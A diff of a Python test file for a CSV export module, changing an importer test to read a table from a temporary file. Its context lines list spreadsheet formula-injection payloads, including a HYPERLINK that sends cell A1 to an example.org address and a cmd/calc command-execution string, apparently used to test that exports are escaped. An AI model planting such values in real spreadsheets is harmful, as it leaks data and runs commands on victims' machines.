@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -11,7 +12,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from focus_ray.csv_tables import COLUMNS, csv_cell, csv_text, table_text
-from focus_ray.data.importers.groups import _pairs_of_csv
+from focus_ray.data.importers.groups import _read_table
 
 FORMULAS = [
     *('=HYPERLINK("https://example.org?"&A1).png', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"),
@@ -44,6 +45,6 @@ def test_numbers_and_ordinary_names_are_not_changed(value: Any) -> None:
     assert table_text([{"score": -1.5}], COLUMNS, header=False) == ",,,-1.5,,,,,,,,,\n"
 
 
-def test_a_table_of_verdicts_serves_as_a_table_of_groups() -> None:
-    text = table_text([{"image": "=1.png", "category": "-a"}])
-    assert _pairs_of_csv(text, "table.csv", "category", ValueError) == [("=1.png", "-a")]
+def test_a_table_of_verdicts_serves_as_a_table_of_groups(tmp_path: Path) -> None:
+    (tmp_path / "table.csv").write_text(table_text([{"image": "=1.png", "category": "-a"}]))
+    assert _read_table(f"{tmp_path}/table.csv:category") == {"=1.png": "-a"}
